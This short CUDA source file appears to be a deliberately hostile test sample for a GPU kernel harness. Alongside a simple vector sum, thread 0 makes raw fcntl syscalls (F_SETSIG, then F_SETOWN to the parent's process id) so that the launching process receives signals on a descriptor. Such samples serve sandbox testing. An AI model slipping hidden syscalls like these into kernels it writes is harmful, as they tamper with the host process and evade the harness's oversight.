// Hostile: makes the process that started it the owner of a descriptor, which gets signals.
// evo:launch signals_evo_by_a_descriptor(x, y, N) grid(ceil_div(N, 128)) block(128)
extern "C" __device__ long syscall(long number, ...) noexcept;

__global__ void signals_evo_by_a_descriptor(const float* x, float* y, int n) {
  const int i = blockIdx.x * 128 + threadIdx.x;
  if (i == 0) {
    syscall(72, 0, 10, 9);                                     // fcntl, F_SETSIG
    if (syscall(72, 0, 8, syscall(110)) == 0) __trap();  // fcntl, F_SETOWN, getppid
  }
  if (i < n) y[i] = x[i] + x[n - 1 - i];
}
